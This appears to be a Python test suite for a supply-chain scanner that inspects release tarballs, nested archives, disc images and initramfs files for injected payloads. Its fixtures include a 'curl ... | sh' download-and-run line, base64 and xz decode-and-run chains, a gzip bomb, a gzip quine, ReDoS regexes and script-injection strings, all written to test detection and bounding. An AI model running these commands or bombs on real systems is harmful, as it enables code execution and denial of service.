"""`assay scan` and `assay extract` on whatever a user may point them at, hostile things included; `--previous`."""
import gzip
import io
import lzma
import re
import stat
import struct
import subprocess
import tarfile
import time
import unittest
import zipfile
import zlib

import assay_test
from assay_test import FIXTURES

CLEAN = FIXTURES / "hello-clean" / "greet-1.2.0.tar.gz"
INJECTED = FIXTURES / "hello-injected" / "greet-1.2.0.tar.gz"


def tarball(files, modes=()):
    """A gzipped tar of {path: bytes}, in memory."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.USTAR_FORMAT) as tar:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            info.mode = dict(modes).get(name, 0o644)
            tar.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def gzip_quine():
    """A gzip file that decompresses to itself, after Russ Cox, "Zip Files All The Way Down"."""
    def bits(*fields):
        """(value, width, Huffman code?) packed as RFC 1951 packs them."""
        text = "".join(format(value, f"0{width}b")[:: 1 if code else -1] for value, width, code in fields)
        return bytes(int(text[i:i + 8][::-1], 2) for i in range(0, len(text), 8))

    def literal(size):
        return b"\0" + struct.pack("<HH", size, size ^ 0xFFFF)

    def repeat(size):
        # Two copies of half of it from `size` bytes back, 17 to 24: with block header and end just five bytes.
        match = [(size // 2 - 2, 7, True), (8, 5, True), (size - 17, 3, False)]
        return bits((0b010, 3, False), *match, *match, (0, 7, True))

    def whole(head, crc, size):
        lp, rp = literal(len(head) + 5), repeat(len(head) + 5)
        l1, l4, r4, ls, rs = literal(5), literal(20), repeat(20), literal(18), repeat(18)
        tail = b"\x01\0\0\xff\xff" + struct.pack("<II", crc, size)
        return b"".join([head, lp, head, lp, rp, l1, rp, l1, l1, l4, rp, l1, l1, l4, r4, l4, r4, l4, r4, l4, r4, l4, r4,
                         literal(0) * 2, ls, r4, literal(0) * 2, ls, rs, tail, rs, tail])

    for name in range(676):
        head = b"\x1f\x8b\x08\x08\0\0\0\0\0\x03" + bytes([97 + name % 26, 97 + name // 26]) + b"\0"
        size = len(whole(head, 0, 0))
        # The check sum of the whole is linear in the one that stands in it: solve for the one that is its own.
        wanted = zlib.crc32(whole(head, 0, size))
        rows = [(zlib.crc32(whole(head, 1 << i, size)) ^ wanted ^ (1 << i), 1 << i) for i in range(32)]
        answer = 0
        for bit in reversed(range(32)):
            pivot = next((row for row in rows if row[0] >> bit & 1), None)
            if pivot is None:
                continue
            rows = [(row[0] ^ pivot[0], row[1] ^ pivot[1]) if row[0] >> bit & 1 else row for row in rows if row is not pivot]
            if wanted >> bit & 1:
                wanted, answer = wanted ^ pivot[0], answer ^ pivot[1]
        if wanted == 0:
            return whole(head, answer, size)
    raise AssertionError("no quine")


def image(name, content):
    """An ISO 9660 image (ECMA-119) of one file."""
    def both(number, size):
        return number.to_bytes(size, "little") + number.to_bytes(size, "big")

    def record(identifier, sector, size, flags):
        body = b"\0" + both(sector, 4) + both(size, 4) + bytes(7) + bytes([flags, 0, 0]) + both(1, 2) + bytes([len(identifier)]) + identifier
        body += b"\0" * (1 - len(body) % 2)
        return bytes([len(body) + 1]) + body

    root = record(b"\0", 18, 2048, 2)
    described = b"\1CD001\1\0" + b" " * 64 + bytes(8) + both(21, 4) + bytes(32) + both(1, 2) + both(1, 2) + both(2048, 2) + both(10, 4)
    described += (19).to_bytes(4, "little") + bytes(4) + (19).to_bytes(4, "big") + bytes(4) + root
    described = described.ljust(881, b" ") + b"\1\0"
    listed = root + record(b"\1", 18, 2048, 2) + record(name.encode() + b";1", 20, len(content), 0)
    sectors = [described, b"\xffCD001\1", listed, b"\1\0" + (18).to_bytes(4, "little") + b"\1\0\0\0", content]
    return (bytes(16 * 2048) + b"".join(sector.ljust(2048, b"\0") for sector in sectors)).ljust(32 * 2048, b"\0")


def cabinet(name, content):
    """A cabinet ([MS-CAB]) of one file that is stored as it is."""
    named = name.encode() + b"\0"
    begin = 36 + 8 + 16 + len(named)
    head = b"MSCF\0\0\0\0" + struct.pack("<III", begin + 8 + len(content), 0, 44) + struct.pack("<IBBHHHHH", 0, 3, 1, 1, 1, 0, 1, 0)
    return (head + struct.pack("<IHH", begin, 1, 0) + struct.pack("<IIHHHH", len(content), 0, 0, 0x5000, 0x6000, 0x20) + named +
            struct.pack("<IHH", 0, len(content), len(content)) + content)


class ScanTest(assay_test.AssayTest):
    def scan(self, subject, *options, **how):
        return self.assay("scan", subject, "--format", "json", *options, **how)

    def write(self, name, content):
        path = self.directory / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        return path

    def test_the_tree_has_size_entropy_digest_and_findings_of_each_place_and_the_decoded_stage(self):
        tarball = FIXTURES / "hello-injected/greet-1.2.0.tar.gz"
        lines = self.assay("scan", tarball, "--tree").out.split("\nContents: ")[1].splitlines()
        self.assertRegex(lines[1], r"^ +bytes  entropy  sha256 +name")
        names = [re.search(r"(\S+!stage \d+|\S+)  \[", line)[1] for line in lines[2:] if "  [" in line]
        self.assertLess(names.index("tests/files/bad-1-truncated.xz"), names.index("tests/files/bad-1-truncated.xz!xz"))
        self.assertIn("tests/files/bad-3-corrupt.xz!stage 1", names)
        digests = {node["path"]: node["sha256"] for node in self.assay("scan", tarball, "--tree", "--format", "json").report["contents"]}
        line = next(line for line in lines if "configure  [" in line)
        self.assertIn(digests["configure"][:12], line)
        self.assertIn("← inspect-payload-chain", line)

    def test_a_place_that_is_not_there_is_answered_with_those_that_are(self):
        tarball = FIXTURES / "hello-injected/greet-1.2.0.tar.gz"
        run = self.assay("extract", tarball, "tests/files/bad-3-corrupt.xz!stage 2", "-o", self.directory / "x")
        self.expect_error(run, "tests/files/bad-3-corrupt.xz!stage 1")
        self.expect_error(self.assay("extract", tarball, "nosuch!xz", "-o", self.directory / "x"), "nosuch", "--tree")

    def test_nothing_is_said_to_be_nothing(self):
        (self.directory / "empty").mkdir()
        run = self.assay("scan", self.directory / "empty")
        self.assertIn("holds no file", run.out)
        self.assertNotIn("sha256", run.out)

    def test_a_clean_release_is_unexplained_at_best_and_raises_no_alarm(self):
        run = self.scan(CLEAN)
        self.expect_exit(run, 0)
        self.expect_verdict(run, "unexplained")
        self.expect_no_finding(run, at_least="medium")
        self.assertTrue(run.report["coverage"]["complete"])

    def test_the_tree_lists_what_is_inside_with_type_size_digest_and_entropy(self):
        run = self.scan(CLEAN, "--tree")
        nodes = {node["path"]: node for node in run.report["contents"]}
        inner = nodes["tests/files/good-1-hello.xz!xz"]
        self.assertEqual((1, 25 * 40, "text"), (inner["depth"], inner["size"], inner["type"]))
        self.assertRegex(inner["sha256"], "^[0-9a-f]{64}$")
        self.assertGreater(nodes["tests/files/good-1-hello.xz"]["entropy"], inner["entropy"])
        self.assertNotIn("contents", self.scan(CLEAN).report)

    def test_archives_in_archives_are_looked_into(self):
        elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(200)
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as outer:
            outer.writestr("inner.tar.gz", tarball({"a/program": elf}))
        subject = self.write("nested.tar.gz", tarball({"p/tests/data.zip": buffer.getvalue(), "p/README": b"Hello\n"}))
        run = self.scan(subject, "--tree")
        paths = [node["path"] for node in run.report["contents"]]
        self.assertIn("tests/data.zip!inner.tar.gz!a/program", paths)
        done = self.assay("extract", subject, "tests/data.zip!inner.tar.gz!a/program", "-o", "out")
        self.expect_exit(done, 0)
        self.assertEqual(elf, (self.directory / "out").read_bytes())

    def test_images_of_disks_and_cabinets_are_looked_into(self):
        for name, packed in (("disc.iso", image("NOTE.TXT", b"Hello from a disc\n")), ("disc.iso.xz", lzma.compress(image("NOTE.TXT", b"Hello from a disc\n"))),
                             ("a.cab", cabinet("NOTE.TXT", b"Hello from a cabinet\n"))):
            with self.subTest(name):
                run = self.scan(self.write("release.tar.gz", tarball({f"p/tests/{name}": packed})), "--tree")
                self.assertTrue(run.report["coverage"]["complete"], str(run))
                self.assertTrue(any(node["path"].endswith("!NOTE.TXT") and node["type"] == "text" for node in run.report["contents"]), str(run))
                self.assertIn("NOTE.TXT", self.assay("scan", self.write(name, packed), "--tree").out)

    def test_an_initial_ram_disk_is_looked_into_behind_its_first_archive(self):
        cpio = lambda name, content: b"".join(
            f"070701{1:08x}{mode:08x}{0:08x}{0:08x}{1:08x}{0:08x}{len(data):08x}{0:08x}{0:08x}{0:08x}{0:08x}{len(path) + 1:08x}{0:08x}".encode() +
            path.encode() + b"\0" * (1 + -(110 + len(path) + 1) % 4) + data + b"\0" * (-len(data) % 4)
            for path, mode, data in ((name, 0o100644, content), ("TRAILER!!!", 0, b"")))
        second = gzip.compress(cpio("init", b"#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\n"))
        disk = self.write("initrd.img", cpio("microcode.bin", bytes(range(256)) * 8) + b"\0" * 512 + second)
        run = self.scan(disk)
        self.expect_finding(run, "content-download-and-run", "initrd.img!next!init")
        self.assertTrue(run.report["coverage"]["complete"])
        run = self.scan(disk, "--limit", f"memory={disk.stat().st_size}")
        self.expect_exit(run, 3)
        self.expect_gap(run, "behind the end of its first archive")

    def test_the_end_of_a_text_is_read_as_far_as_there_is_memory_for_it(self):
        text = self.write("long.txt", b"nothing to see\n" * 4_700_000 + b"eval $(echo ZWNobyBoaQo= | base64 -d)\n")
        self.expect_finding(self.scan(text), "content-shell-decodes-and-runs", "long.txt")
        run = self.assay("scan", text, "--limit", "memory=64M")
        self.expect_exit(run, 2)
        self.assertIn("memory=VALUE", run.err)

    def test_directories_single_files_and_revisions_are_subjects_too(self):
        self.write("tree/src/a.c", b"int a;\n")
        for subject in (self.directory / "tree", self.write("one.xz", lzma.compress(b"Hello\n" * 40)),
                        f"{FIXTURES / 'hello-clean' / 'greet.git'}@v1.2.0"):
            run = self.scan(subject)
            self.expect_exit(run, 0)
            self.expect_verdict(run, "unexplained")

    def test_a_checkout_is_scanned_as_it_lies_there(self):
        checkout = self.directory / "checkout"
        subprocess.run(["git", "clone", "-q", str(FIXTURES / "hello-clean/greet.git"), str(checkout)], check=True)
        (checkout / "new.sh").write_text("#!/bin/sh\necho new\n")
        subprocess.run(["git", "add", "new.sh"], cwd=checkout, check=True)
        run = self.assay("scan", checkout, "--tree", "--format", "json")
        self.assertIn("new.sh", [node["path"] for node in run.report["contents"]], "what is not committed yet is looked at too")

    def test_what_cannot_be_opened_is_an_operational_error(self):
        self.expect_error(self.assay("scan", "nowhere.tar.gz"), "nowhere.tar.gz")
        self.expect_error(self.assay("scan", f"{FIXTURES / 'hello-clean' / 'greet.git'}@v9"), "v9")

    def test_effort_bounds_the_trying_and_says_what_was_left_out(self):
        low = self.scan(INJECTED, "--effort", "low")
        self.assertIn("not tried: keys of one byte", self.expect_finding(low, "blob-not-tried")["message"])
        normal = self.scan(INJECTED)
        self.assertNotIn("keys of one byte", normal.out)

    def test_objects_that_follow_a_rule_of_their_own_are_one_finding(self):
        for objects, findings in ((3, 3), (5, 1)):
            names = [f"module{number}" for number in range(objects)]
            files = {f"p/src/{name}.c": b"int x;\n" for name in names} | {"p/src/Makefile.in": ("o = " + " ".join(name + "_.o" for name in names) + "\n").encode()}
            run = self.scan(self.write("p.tar.gz", tarball(files)))
            found = [finding for finding in run.report["findings"] if finding["rule"] == "inspect-lookalike-object"]
            self.assertEqual((findings, {"medium"}), (len(found), {finding["severity"] for finding in found}), str(run))

    def test_fixtures_that_no_text_names_are_context(self):
        files = {"p/tests/named.bin": b"\0\1\2" * 50, "p/tests/forgotten.bin": b"\0\1\3" * 50, "p/tests/run.sh": b"#!/bin/sh\ncmp named.bin out\n"}
        run = self.scan(self.write("p.tar.gz", tarball(files)))
        finding = self.expect_finding(run, "blob-unnamed-fixtures", "tests", "info")
        self.assertEqual(["forgotten.bin"], [evidence["text"] for evidence in finding["evidence"]])

    # Bad input.

    def bounded(self, subject, seconds, **how):
        began = time.monotonic()
        run = self.scan(subject, **how)
        self.assertLess(time.monotonic() - began, seconds, str(run))
        return run

    def test_four_thousand_nested_levels_are_a_gap_and_cost_little(self):
        content = b"at the bottom\n"
        for _ in range(4000):
            content = gzip.compress(content, 1, mtime=0)
        run = self.bounded(self.write("deep.tar.gz", tarball({"p/tests/deep.gz": content})), 30)
        self.expect_exit(run, 3)
        self.expect_gap(run, "16 containers deep")

    def test_a_quine_is_said_to_contain_itself_and_ends(self):
        quine = gzip_quine()
        self.assertEqual(quine, gzip.decompress(quine))
        run = self.bounded(self.write("p.tar.gz", tarball({"p/tests/quine.gz": quine})), 10)
        self.assertEqual("low", self.expect_finding(run, "blob-contains-itself", "tests/quine.gz!gzip")["severity"])
        # As the subject it is an archive without end: opening it is bounded, and says so.
        self.expect_exit(self.bounded(self.write("quine.gz", quine), 10), 3)

    def test_a_bomb_is_a_gap_and_costs_little(self):
        bomb = gzip.compress(gzip.compress(bytes(1 << 30), 9, mtime=0), 9, mtime=0)
        run = self.bounded(self.write("bomb.tar.gz", tarball({"p/tests/bomb.gz": bomb})), 60)
        self.expect_exit(run, 3)
        self.assertFalse(run.report["coverage"]["complete"])

    def test_a_script_of_fifty_megabytes_on_one_line_is_a_gap_and_costs_little(self):
        pieces = b"x=`echo $y | tr a-z n-za-m`; eval \"$x\" | sh; "
        run = self.bounded(self.write("long.tar.gz", tarball({"p/configure": b"#!/bin/sh\n" + pieces * (50_000_000 // len(pieces)) + b"\n"})), 90)
        self.expect_exit(run, 3)
        self.expect_gap(run, "configure")

    def test_texts_that_repeat_what_is_looked_for_cost_little(self):
        long = b"A" * 100_000
        for name, text in (("a.py", b"a=b64decode(" * 80_000), ("a.js", b"a=atob(" * 80_000), ("build.py", b"q(" * 32_000),
                           ("Makefile", long + b": tests/x.txt\n\t" + b"$@" * 100_000 + b"\n"),
                           ("configure", b'#!/bin/sh\nsed "s/x/' + long + b"/" + b"e" * 100_000 + b'" a\n')):
            with self.subTest(name):
                run = self.bounded(self.write("p.tar.gz", tarball({f"p/{name}": text, "p/tests/x.txt": b"x\n"})), 8)
                self.assertIn(run.exit, (0, 1))

    def test_patterns_that_make_backtracking_engines_hang_do_not(self):
        script = b"#!/bin/sh\nf=`grep -rlE '(a+)+$|((x*)*)*y' .`\ncat $f | tr '\\000-\\377' '\\001-\\377\\000' | xz -d | sh\n"
        run = self.bounded(self.write("re.tar.gz", tarball({"p/configure": script, "p/tests/a.txt": b"a" * 200_000 + b"!\n"})), 30)
        self.assertIn(run.exit, (0, 1, 3))

    def test_evidence_is_escaped_in_every_format(self):
        hostile = b"\x1b]0;owned\x07<script>alert(1)</script>|`x`"
        payload = lzma.compress(b"#!/bin/sh\necho \"" + hostile + b"\"\nif test -n x; then exit 0; fi\n")
        script = b"#!/bin/sh\ntr 'ab' 'ba' < tests/t.bin | xz -dc | sh\n"
        subject = self.write("h.tar.gz", tarball({"p/configure": script, "p/tests/t.bin": payload.translate(bytes.maketrans(b"ab", b"ba"))}))
        for name in ("text", "json", "sarif", "markdown"):
            with self.subTest(format=name):
                run = self.assay("scan", subject, "--format", name)
                self.expect_exit(run, 1)
                self.assertNotIn(b"\x1b", run.raw)
                self.assertNotIn(b"\x07", run.raw)
                if name == "markdown":
                    self.assertNotIn("<script>", re.sub(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", run.out))

    # Extract.

    def test_extract_writes_bytes_that_nobody_can_run_by_accident(self):
        target = self.write("old", b"was here before")
        target.chmod(0o755)
        done = self.assay("extract", CLEAN, "tests/files/good-1-hello.xz!xz", "-o", target)
        self.expect_exit(done, 0)
        self.assertEqual(b"Hello, compressed world!\n" * 40, target.read_bytes())
        self.assertEqual(0o600, stat.S_IMODE(target.stat().st_mode))
        self.assertIn("1,000 bytes", done.err)

    def test_extract_says_what_there_is_where_there_is_no_such_place(self):
        self.expect_error(self.assay("extract", CLEAN, "tests/files/good-1-hello.xz!gzip", "-o", "out"), "no such place", "good-1-hello.xz!xz")
        self.expect_error(self.assay("extract", CLEAN, "tests/nothing", "-o", "out"), "tests/nothing")
        self.assertFalse((self.directory / "out").exists())

    def test_extract_needs_to_be_told_where_to_write(self):
        self.assertEqual(2, self.assay("extract", CLEAN, "README").exit)

    # The release before.

    def previous(self):
        """Release 1.1.0 of greet, as git archive makes it."""
        archive = self.directory / "greet-1.1.0.tar.gz"
        subprocess.run(["git", "-C", FIXTURES / "hello-injected" / "greet.git", "archive", "--prefix=greet-1.1.0/", "-o", archive, "v1.1.0"],
                       check=True, env={"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"})
        return archive

    def newly(self, run):
        return {(finding["rule"], finding["path"]): finding["severity"] for finding in run.report["findings"] if "-newly-" in finding["rule"]}

    def test_scan_says_what_became_executable_or_binary_since_the_previous_release(self):
        run = self.scan(INJECTED, "--previous", self.previous())
        newly = self.newly(run)
        self.assertEqual("greet-1.1.0.tar.gz", run.report["previous"]["name"])
        self.assertIn("previous   greet-1.1.0.tar.gz, ", self.assay("scan", INJECTED, "--previous", self.previous()).out)
        self.assertEqual("low", newly[("inspect-newly-executable", "configure")])
        self.assertEqual("low", newly[("inspect-newly-binary", "tests/files/bad-3-corrupt.xz")])
        self.assertNotIn(("inspect-newly-executable", "bootstrap"), newly)

    def test_check_ranks_news_by_what_version_control_knows(self):
        run = self.check("hello-injected/greet-1.2.0.tar.gz", "hello-injected/greet.git", "--previous", self.previous())
        newly = self.newly(run)
        self.assertEqual("greet-1.1.0.tar.gz", run.report["previous"]["name"])
        self.assertEqual("medium", newly[("provenance-newly-unexplained", "m4/build-to-host.m4")])
        paths = [path for _, path in newly]
        self.assertEqual(len(set(paths)), len(paths), "one finding a file")
        self.assertEqual("medium", newly[("provenance-newly-unexplained", "configure")])
        self.assertEqual("info", newly[("inspect-newly-binary", "tests/files/bad-3-corrupt.xz")])

    def test_the_same_release_twice_has_no_news(self):
        self.assertEqual({}, self.newly(self.scan(CLEAN, "--previous", CLEAN)))
        self.assertEqual({}, self.newly(self.check("hello-clean/greet-1.2.0.tar.gz", "hello-clean/greet.git", "--previous", CLEAN)))

    def test_a_file_that_changes_its_nature_is_news_and_one_that_stays_is_not(self):
        before = self.write("a-1.tar.gz", tarball({"a-1/notes": b"text\n", "a-1/data": b"\0\1\2\3" * 9, "a-1/run": b"echo\n", "a-1/hook": b"#!/bin/sh\n", "a-1/same": b"#!/bin/sh\n"}))
        now = self.write("a-2.tar.gz", tarball({"a-2/notes": b"\0\5" * 20, "a-2/data": b"\0\1\2\4" * 9, "a-2/run": b"echo\n", "a-2/hook": b"#!/bin/sh\n", "a-2/same": b"#!/bin/sh\n# more\n"}, {"a-2/run": 0o755, "a-2/hook": 0o755}.items()))
        self.assertEqual({("inspect-newly-binary", "notes"), ("inspect-newly-executable", "run"), ("inspect-newly-executable", "hook")}, set(self.newly(self.scan(now, "--previous", before))))

    def test_a_previous_release_that_is_not_there_is_an_operational_error(self):
        self.expect_error(self.scan(CLEAN, "--previous", "nowhere.tar.gz"), "nowhere.tar.gz")


if __name__ == "__main__":
    unittest.main()
